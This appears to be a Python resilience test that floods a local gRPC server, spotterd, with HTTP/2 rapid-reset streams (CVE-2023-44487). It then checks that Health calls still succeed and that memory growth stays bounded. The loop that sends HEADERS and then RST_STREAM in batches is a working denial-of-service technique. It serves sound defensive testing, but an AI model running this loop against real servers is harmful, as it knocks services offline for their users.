#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against spotterd: HEADERS for a call, then RST_STREAM at once,
in a loop, over as many connections as the server lets it open, for --seconds. The server must stay
responsive (a Health check on a new connection during the attack and after it) and its memory must
not grow without bound.

    rapid_reset.py --target 127.0.0.1:PORT --ca CERT.pem --pid SPOTTERD_PID [--seconds 5]

Uses the `h2` package. Prints what it sent, how the server answered (GOAWAY codes, closed
connections), the server's CPU seconds and resident memory before and after, and
`rapid reset: N of N checks passed`. Bounded by --seconds.
"""

import argparse
import pathlib
import socket
import ssl
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "scripts"))
import spotter_client  # noqa: E402
from checks import Checks  # noqa: E402

import grpc  # noqa: E402
import h2.config  # noqa: E402
import h2.connection  # noqa: E402
import h2.events  # noqa: E402
import h2.exceptions  # noqa: E402


def server_usage(pid):
    """(CPU seconds, resident kB) of the server process."""
    stat = pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(") ", 1)[1].split()
    ticks = int(stat[11]) + int(stat[12])
    rss = next(int(line.split()[1]) for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines()
               if line.startswith("VmRSS:"))
    return ticks / 100, rss


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--target", required=True)
    parser.add_argument("--ca", required=True)
    parser.add_argument("--pid", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=5)
    args = parser.parse_args()
    host, port = args.target.rsplit(":", 1)
    check = Checks()

    s = spotter_client.load_stubs()

    def healthy():
        channel = spotter_client.channel(args.target, args.ca)
        started = time.monotonic()
        try:
            reply = spotter_client.call(channel, "grpc.health.v1.Health/Check", s.health.HealthCheckRequest(),
                                        timeout=5)
            return reply.status == s.health.HealthCheckResponse.SERVING, time.monotonic() - started
        except grpc.RpcError as error:
            return False, f"{error.code().name}: {error.details()}"
        finally:
            channel.close()

    context = ssl.create_default_context(cafile=args.ca)
    context.check_hostname = False
    context.set_alpn_protocols(["h2"])
    headers = [(":method", "POST"), (":scheme", "https"), (":path", "/grpc.health.v1.Health/Check"),
               (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]

    cpu_before, rss_before = server_usage(args.pid)
    sent, connections, goaways, closed = 0, 0, {}, 0
    stop = time.monotonic() + args.seconds
    during = None
    while time.monotonic() < stop:
        raw = socket.create_connection((host, int(port)), timeout=5)
        try:
            sock = context.wrap_socket(raw, server_hostname="localhost")
        except (ssl.SSLError, OSError):
            closed += 1
            continue
        connections += 1
        conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        sock.setblocking(False)
        alive = True
        while alive and time.monotonic() < stop:
            try:
                for _ in range(100):
                    stream = conn.get_next_available_stream_id()
                    conn.send_headers(stream, headers)
                    conn.reset_stream(stream)
                    sent += 1
                sock.sendall(conn.data_to_send())
            except (h2.exceptions.ProtocolError, OSError, ssl.SSLError):
                alive = False
            try:
                data = sock.recv(65536)
                if not data:
                    alive = False
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        code = getattr(event.error_code, "name", str(event.error_code))
                        goaways[code] = goaways.get(code, 0) + 1
                        alive = False
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            except (OSError, ssl.SSLError, h2.exceptions.ProtocolError):
                alive = False
            if during is None and time.monotonic() > stop - args.seconds / 2:
                during = healthy()
        closed += 1
        sock.close()
    time.sleep(1)
    cpu_after, rss_after = server_usage(args.pid)
    after = healthy()
    print(f"sent {sent} HEADERS+RST_STREAM pairs over {connections} connections in {args.seconds:.0f} s; "
          f"GOAWAY {goaways or 'none'}; server CPU {cpu_after - cpu_before:.1f} s, "
          f"RSS {rss_before} kB -> {rss_after} kB")
    check("the server answered a Health check on a new connection during the attack",
          during is not None and during[0] is True, str(during))
    check("and after it, within 5 s", after[0] is True, str(after))
    check("its resident memory grew by less than 64 MB", rss_after - rss_before < 64 * 1024,
          f"{rss_after - rss_before} kB")
    return check.finish("rapid reset")


if __name__ == "__main__":
    sys.exit(main())
